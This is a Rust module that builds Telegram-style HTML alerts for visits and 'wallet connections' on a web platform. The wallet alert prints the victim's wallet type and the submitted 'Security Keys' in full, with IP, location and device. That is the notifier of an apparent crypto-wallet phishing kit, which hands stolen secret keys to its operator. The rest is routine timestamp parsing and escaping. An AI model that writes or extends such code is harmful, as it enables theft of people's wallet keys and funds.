use crate::activity::{ActivityKind, ActivityRecord};
use chrono::{DateTime, Local, NaiveDate, NaiveDateTime, TimeZone, Utc};
use std::fmt::Display;

const UNKNOWN: &str = "Unknown";
const HIDDEN: &str = "Hidden";
const NOT_PROVIDED: &str = "Not provided";

// Month/day/year, 12-hour clock, the way browsers print a local date.
const DISPLAY_FORMAT: &str = "%-m/%-d/%Y, %-I:%M:%S %p";

/// Render the notification text for an activity in the host's local timezone.
pub fn render(activity: &ActivityRecord) -> String {
    render_in(activity, &Local)
}

/// Render the notification text with timestamps shown in `tz`.
///
/// Every caller-supplied value is HTML-escaped since the text is sent with
/// the HTML parse mode.
pub fn render_in<Tz>(activity: &ActivityRecord, tz: &Tz) -> String
where
    Tz: TimeZone,
    Tz::Offset: Display,
{
    let time = format_timestamp(&activity.timestamp, tz);
    let location = format!(
        "{}, {}",
        escape_html(or_default(activity.city(), UNKNOWN)),
        escape_html(or_default(activity.country(), UNKNOWN))
    );
    let device = escape_html(&activity.user_agent);
    let ip = escape_html(or_default(activity.ip(), HIDDEN));

    match activity.kind {
        ActivityKind::Visit => format!(
            "🌐 <b>New Platform Visit</b>\n\n\
             ⏰ Time: {time}\n\
             🌍 Location: {location}\n\
             📱 Device: {device}\n\
             🔗 IP: {ip}"
        ),
        ActivityKind::WalletConnect => {
            let wallet = escape_html(or_default(activity.wallet_type.as_deref(), UNKNOWN));
            let provided = if activity.security_keys_provided.unwrap_or(false) {
                "✅ Provided"
            } else {
                "❌ Not provided"
            };
            let keys = escape_html(or_default(activity.security_keys.as_deref(), NOT_PROVIDED));

            format!(
                "💰 <b>Wallet Connected</b>\n\n\
                 ⏰ Time: {time}\n\
                 👛 Wallet: {wallet}\n\
                 🔐 Security Keys: {provided}\n\
                 📝 Keys: {keys}\n\
                 🌍 Location: {location}\n\
                 📱 Device: {device}\n\
                 🔗 IP: {ip}"
            )
        }
    }
}

/// Format an ISO-8601 timestamp for display in `tz`; anything unparseable is
/// shown as received.
pub fn format_timestamp<Tz>(timestamp: &str, tz: &Tz) -> String
where
    Tz: TimeZone,
    Tz::Offset: Display,
{
    match parse_timestamp(timestamp.trim(), tz) {
        Some(parsed) => parsed.format(DISPLAY_FORMAT).to_string(),
        None => escape_html(timestamp),
    }
}

// Values without an offset are wall-clock time in `tz`; a bare date is UTC midnight.
fn parse_timestamp<Tz: TimeZone>(timestamp: &str, tz: &Tz) -> Option<DateTime<Tz>> {
    if let Ok(parsed) = DateTime::parse_from_rfc3339(timestamp) {
        return Some(parsed.with_timezone(tz));
    }
    if let Ok(parsed) = DateTime::parse_from_str(timestamp, "%Y-%m-%dT%H:%M:%S%.f%z") {
        return Some(parsed.with_timezone(tz));
    }
    if let Ok(naive) = NaiveDateTime::parse_from_str(timestamp, "%Y-%m-%dT%H:%M:%S%.f") {
        return tz.from_local_datetime(&naive).earliest();
    }
    let date = NaiveDate::parse_from_str(timestamp, "%Y-%m-%d").ok()?;
    Some(Utc.from_utc_datetime(&date.and_hms_opt(0, 0, 0)?).with_timezone(tz))
}

/// Escape the characters the Telegram HTML parser treats as markup.
pub fn escape_html(raw: &str) -> String {
    let mut escaped = String::with_capacity(raw.len());
    for c in raw.chars() {
        match c {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            _ => escaped.push(c),
        }
    }
    escaped
}

fn or_default<'a>(value: Option<&'a str>, default: &'a str) -> &'a str {
    match value {
        Some(v) if !v.is_empty() => v,
        _ => default,
    }
}
